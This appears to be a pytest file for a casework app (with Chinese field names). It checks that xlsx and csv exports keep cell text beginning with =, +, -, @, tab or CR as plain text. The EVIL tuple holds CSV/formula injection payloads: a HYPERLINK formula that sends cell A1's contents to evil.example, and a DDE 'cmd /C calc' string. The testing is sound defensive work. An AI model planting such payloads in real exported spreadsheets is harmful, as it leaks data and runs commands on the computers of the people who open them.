"""Every xlsx and csv the app writes keeps text that begins with =, +, -, @, tab or CR as
text: an imported 主要问题 `=HYPERLINK(...)` or a unit named `=1+1` never becomes a live
formula in the office's Excel."""

import io
from datetime import date

import openpyxl
import pytest

from casework import clock
from casework.demo import _Seeder
from casework.documents import quarterly
from casework.permissions import SYSTEM_ACTOR
from casework.queries import rounds
from casework.services import accounts, inspections, publication
from tests.factories import local
from tests.integration.test_inspections import TABLE
from tests.web.helpers import new_letter

EVIL = ('=HYPERLINK("http://evil.example/?"&A1,"点击查看整改要求")', "+1+cmd|' /C calc'!A0",
        "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1")


def assert_no_formulas(xlsx: bytes, expected: set[str]) -> None:
    book = openpyxl.load_workbook(io.BytesIO(xlsx))
    texts = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    texts.add(cell.value)
    for text in expected:  # the text itself is kept, as text
        assert any(text.strip() in t for t in texts), text


def test_imported_problems_stay_text_in_the_results(ctx):
    _Seeder().units_and_sites()
    reviewer = accounts.create_user(SYSTEM_ACTOR, "reviewer", "reviewer", "secret-pass-1")
    lines = TABLE.decode().splitlines()
    header = next(i for i, line in enumerate(lines) if "主要问题" in line)
    # The first data rows' 主要问题 become formula-like text (quoted: the text has commas).
    for i, evil in enumerate(EVIL, header + 1):
        cells = lines[i].split(",")
        cells[4] = '"' + evil.replace('"', '""') + '"'
        lines[i] = ",".join(cells)
    rnd, _ = inspections.commit(reviewer, "\n".join(lines).encode(), "t.csv", "R", date(2020, 3, 9))
    assert_no_formulas(quarterly.xlsx_bytes(rounds.snapshot(rnd), "工作底稿"), {EVIL[0], EVIL[1], EVIL[3]})


@pytest.fixture
def published_with_evil_unit(app, world):
    with app.app_context():
        accounts.create_unit(SYSTEM_ACTOR, "evil", "=1+1", "department", "@恶意")
    with clock.travel(local(2026, 10, 12, 9)):
        new_letter(app, assign_to="evil")
    with app.app_context(), clock.travel(local(2026, 11, 2, 9)):
        publication.publish(SYSTEM_ACTOR, "2026-10")


def test_published_statistics_stay_text(client, published_with_evil_unit):
    assert_no_formulas(client.get("/stats/2026-10/v1.xlsx").data, {"=1+1"})
    csv = client.get("/stats/2026-10/v1.csv").data.decode("utf-8-sig")
    assert ",'=1+1," in csv and ",=1+1," not in csv
